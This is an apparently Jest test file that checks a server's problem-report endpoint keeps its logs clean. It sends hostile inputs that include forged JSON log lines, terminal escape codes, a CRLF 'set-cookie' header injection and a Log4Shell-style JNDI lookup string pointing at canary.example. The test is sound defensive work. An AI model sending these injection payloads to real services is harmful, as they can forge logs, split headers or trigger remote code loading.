import { callerOf, logIn } from '../../testing/client'
import type { SecurityLine } from '../../http/securityLine'
import type { TestServer } from '../../testing/startTestServer'

let server: TestServer
let written: string[]
let security: SecurityLine[]
beforeAll(async () => {
  const logger = { level: 'trace', stream: { write: (text: string) => void written.push(text) } }
  server = await testServer.start({ logger, securityLog: (line) => void security.push(line) })
})
beforeEach(() => {
  written = []
  security = []
})
afterAll(() => server.close())

const escape = String.fromCharCode(27)
const line = (level: number) => JSON.stringify({ level, time: 0, msg: 'canary' })
/** New lines that look like lines of the log, codes that a terminal obeys, templates that a logger may fill in, and length. */
const hostile = [
  `canary\n${line(60)}\n`,
  `canary\r${line(60)}\u2028${line(60)}`,
  `canary ${escape}[2J${escape}]0;canary\u0007${escape}[31m`,
  'canary %s %o %j {{canary}} ${jndi:ldap://canary.example/a}',
  `"},{"level":60,"msg":"canary`,
  'canary'.repeat(600),
]
const inHeaders = [
  `canary ${escape}[31m`,
  '%0d%0aset-cookie: canary',
  'canary ${jndi:ldap://canary.example/a}',
  'canary'.repeat(20),
]

const reportOf = (text: string) => ({
  description: text,
  email: null,
  page: `/${text}`.slice(0, 500),
  version: text.slice(0, 100),
  crash: { message: text.slice(0, 2_000), stack: text.repeat(3) },
  trace: text.repeat(200),
  failedStep: 1,
})

const send = async (body: unknown, key: string, headers: Record<string, string> = {}) => {
  const text = typeof body === 'string' ? body : JSON.stringify(body)
  const type = { 'content-type': 'application/json', 'idempotency-key': key }
  return (await callerOf(server).postText('/problem-reports', text, { ...type, ...headers })).status
}

/** Each write is one line of JSON, short, without control characters and without anything that was sent. */
const expectCleanLogs = () => {
  expect(written.length).toBeGreaterThan(0)
  for (const text of written) {
    expect(text.length).toBeLessThan(4_000)
    expect(text.indexOf('\n')).toBe(text.length - 1)
    expect(JSON.parse(text).level).toBeLessThan(60)
  }
  const all = written.join('') + JSON.stringify(security)
  expect(all.match(/canary|jndi|set-cookie/gi)).toBeNull()
  expect(all.replaceAll('\n', '').match(/[\u0000-\u001f\u007f\u2028\u2029]|\\u00/g)).toBeNull()
}

describe('the logs, at their finest level, have nothing of a hostile report [T14.2 X32]', () => {
  it('that is kept, and that an admin reads and answers', async () => {
    const statuses = []
    for (const [index, text] of hostile.entries()) statuses.push(await send(reportOf(text), `hostile-report-${index}`))
    for (const [index, text] of inHeaders.entries())
      statuses.push(await send(reportOf('plain'), `plain-report-no-${index}`, { 'user-agent': text, referer: text }))
    expect(new Set(statuses)).toEqual(new Set([204]))
    const admin = await logIn(server, 'admin')
    const { items } = (await admin.get('/desk/problem-reports?text=canary')).json
    expect(items.length).toBeGreaterThan(0)
    for (const { id } of items) {
      await admin.get(`/desk/problem-reports/${id}`)
      const trace = {
        method: 'GET',
        url: `/api/desk/problem-reports/${id}/trace`,
        headers: { authorization: `Bearer ${admin.token}` },
      }
      expect((await server.ask(trace)).status).toBe(200)
    }
    expectCleanLogs()
  })

  it('that is refused', async () => {
    const statuses = []
    for (const text of hostile) {
      statuses.push(await send({ ...reportOf(text), email: text }, 'a-refused-report'))
      statuses.push(await send({ [text]: text }, 'a-refused-report'))
      statuses.push(await send(`{"description": ${text}`, 'a-refused-report'))
    }
    for (const text of inHeaders) statuses.push(await send(reportOf('plain'), `${text} `.repeat(30)))
    statuses.push(await send(`"${'canary'.repeat(800_000)}"`, 'an-endless-report'))
    expect(new Set(statuses)).toEqual(new Set([400, 413]))
    expectCleanLogs()
  })

  it('that the database refuses, or cannot keep', async () => {
    await server.query(
      `alter table problem_reports add constraint refuses_some check (description not like '%canary%') not valid`,
    )
    for (const [index, text] of hostile.entries())
      expect(await send(reportOf(text), `a-failing-report-${index}`)).toBe(500)
    expectCleanLogs()
    expect(written.map((text) => JSON.parse(text).err?.cause?.code).filter(Boolean)).toEqual(hostile.map(() => '23514'))
  })
})
